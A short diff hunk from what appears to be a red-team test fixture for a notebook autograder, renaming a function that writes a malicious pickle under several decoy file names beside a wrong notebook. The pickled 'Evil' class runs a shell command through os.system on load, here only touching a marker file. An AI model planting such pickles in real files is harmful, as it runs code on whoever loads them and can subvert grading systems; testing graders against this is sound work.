@@ -21,7 +21,7 @@ class Evil:
         return os.system, ("touch /tmp/redteam-left",)
 
 
-def hand_in(folder: Path) -> Path:
+def submission(folder: Path) -> Path:
     """Write the pickle under several names, beside a wrong notebook."""
     for name in (".OTTER_LOG", "submission_log.json", "hw2.pkl", "data.npy", "weights.pt"):
         (folder / name).write_bytes(pickle.dumps(Evil()))
